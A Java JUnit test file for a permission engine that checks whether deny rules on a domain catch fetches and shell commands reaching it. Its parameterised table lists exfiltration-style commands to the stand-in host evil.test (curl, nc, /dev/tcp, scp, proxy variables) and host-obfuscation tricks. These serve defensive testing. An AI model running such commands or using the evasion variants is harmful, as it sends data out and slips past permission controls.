package dev.armature.permissions;

import static org.assertj.core.api.Assertions.assertThat;

import dev.armature.permissions.action.Action;
import dev.armature.permissions.decision.Mode;
import java.net.URI;
import java.nio.file.Path;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What rules about domains say, of what is fetched and of programs that may speak to a host. */
@DisplayNameGeneration(ReplaceUnderscores.class)
final class HostRulesTest {

    @TempDir
    Path root;

    @Test
    void hosts_are_asked_unless_a_rule_names_their_domain() {
        PermissionEngine engine = Judged.trusted(root, rules -> rules.allow("WebFetch(domain:*.example.org)"));

        assertThat(Judged.action(engine, fetch("https://docs.example.org/a"))).isEqualTo("allow");
        assertThat(Judged.action(engine, fetch("https://example.org/a"))).isEqualTo("ask");
        assertThat(Judged.action(engine, fetch("https://docs.example.org.evil.test/a")))
                .isEqualTo("ask");
        assertThat(engine.assess(fetch("https://Example.ORG/a")).suggestedRules())
                .containsExactly("WebFetch(domain:example.org)");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"https://under_score.example.org/a", "https://d\u00f6cs.example.org/a", "mailto:a@example.org"})
    void a_host_that_is_not_understood_is_asked_whatever_domains_rules_name(String uri) {
        PermissionEngine engine = Judged.trusted(
                root, rules -> rules.allow("WebFetch(domain:example.org)").allow("WebFetch(domain:**.example.org)"));
        PermissionEngine strict = Judged.trusted(root, rules -> rules.deny("WebFetch(domain:evil.test)"))
                .withMode(Mode.BYPASS);

        assertThat(Judged.action(engine, fetch(uri))).isEqualTo("ask");
        assertThat(Judged.action(strict, fetch(uri))).isEqualTo("ask");
    }

    @ParameterizedTest
    @CsvSource({
        "curl -s https://me@Evil.test:8443/x?y#z, deny",
        "curl --proxy evil.test https://example.test, deny",
        "wget -qO- evil.test/x, deny",
        "ssh -p 22 me@evil.test ls, deny",
        "curl https://example.test, allow",
        "git clone http://evil.test/x, deny",
        "git push git@evil.test:x main, deny",
        "rsync -a evil.test::m x, deny",
        "scp a.txt evil.test:x, deny",
        "scp a.txt me@evil.test:x, deny",
        "nc evil.test 80, deny",
        "ping -c1 evil.test, deny",
        "unheard-of --from=https://Evil.test./x, deny",
        "unheard-of -ohttp://evil.test, deny",
        "unheard-of 1:2-http://evil.test, deny",
        "python3 -c 'get(\"http://evil.test\")', deny",
        "http_proxy=http://evil.test:80 curl https://example.test, deny",
        "export https_proxy=http://evil.test; make, deny",
        "env all_proxy=socks5://evil.test make, deny",
        "git -c http.proxy=http://evil.test fetch, deny",
        "git clone http://example.test/x, allow",
        "scp a.txt example.test:x, ask",
        "git commit -m 'evil.test is down', ask",
        "git commit -m 'all is well', allow",
        "docker run evil.test/image, ask",
        "psql -hevil.test, ask",
        "go get evil.test/x@latest, ask",
        "docker run example.test/image, allow",
        "echo http://evil.test, allow",
        "http_proxy=evil.test wget https://example.test, deny",
        "unheard-of <<< evil.test, ask",
        "unheard-of < <(echo evil.test), ask",
        "echo evil.test | unheard-of, ask",
        "unheard-of ${x:-evil.test}, ask",
        "unheard-of $(echo evil.test), ask",
        "unheard-of $'evil\\x2etest', ask",
        "'unheard-of {evil,good}.test', ask",
        "unheard-of -tHevil.test, ask",
        "unheard-of http://evil%2Etest/, ask",
        "unheard-of http://evil%2etest/, ask",
        "unheard-of evil。test, ask",
        "unheard-of me@evil.test:x, ask",
        "unheard-of evil.test::x, ask",
        "unheard-of evil.testing -tevil.tests, allow",
        "git commit -m 'see http://evil.test/', ask",
        "URL=http://evil.test, ask",
        "URL=http://evil.test; curl $URL, deny",
        "export URL=http://evil.test, ask",
        "unheard-of file:///evil.test/x, ask",
        "unheard-of c:/evil.test, ask",
        "gawk 1 /inet/tcp/0/evil.test/80, ask",
        "cat </dev/tcp/evil.test/80, deny",
        "psql -vvvvvvvvvvvvvvvvvvvvvvvvhevil.test, ask",
        "unheard-of \uFF45\uFF56\uFF49\uFF4C.test, ask",
        "unheard-of evil.te\u017Ft, ask",
        "python3 -c 'f(\"a\\nevil.test\")', ask",
        "unheard-of %0Aevil.test, ask",
        "unheard-of +Hevil.test, ask",
        "unheard-of /Hevil.test, ask",
        "x=xevil.test; unheard-of ${x:1}, ask",
        "unheard-of \"$(echo evil).test\", ask",
        "export PGHOST=ev; PGHOST+=il.test; psql, ask",
        "unheard-of $#, allow",
    })
    void a_rule_about_a_domain_holds_for_programs_that_speak_to_it(String script, String expected) {
        assertThat(Judged.script(root, rules -> rules.allow("Bash").deny("WebFetch(domain:evil.test)"), script))
                .isEqualTo(expected);
    }

    @Test
    void a_host_behind_very_many_others_may_be_meant() {
        String others = IntStream.range(0, 150)
                .mapToObj(number -> "http://a" + number + "/")
                .collect(Collectors.joining(" "));

        PermissionEngine engine =
                Judged.trusted(root, rules -> rules.allow("Bash").deny("WebFetch(domain:intranet)"));

        assertThat(Judged.script(engine, root, "unheard-of http://a0/ http://a1/"))
                .isEqualTo("allow");
        assertThat(Judged.script(engine, root, "unheard-of http://a0/ http://intranet/"))
                .isEqualTo("deny");
        assertThat(Judged.script(engine, root, "unheard-of " + others + " http://intranet/"))
                .isEqualTo("ask");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cargo test foo::bar",
                "git commit -m 'std::vector'",
                "git commit -m 'me@x.test:thing'",
                "git checkout -b x::y",
                "git checkout release@1.2:src",
                "hg log -r 'a::b'",
                "pytest a.test::TestX::y",
                "perl -MFoo::Bar -e 1",
                "c++ a.cpp -DX=std::y",
                "unheard-of file:/x",
                "unheard-of file:///x",
                "unheard-of jar:file:/a!/b",
                "unheard-of C:/Users/x",
                "unheard-of 'regex:/evil/'",
                "unheard-of a@b:c",
                "git commit -m 'see http://x.test/'",
                "export URL=http://x.test"
            })
    void what_only_looks_like_a_host_is_none_for_a_rule_that_forbids_them_all(String script) {
        assertThat(Judged.script(root, rules -> rules.allow("Bash").deny("WebFetch"), script))
                .isEqualTo("allow");
    }

    private static Action fetch(String uri) {
        return new Action.Fetch(URI.create(uri));
    }
}
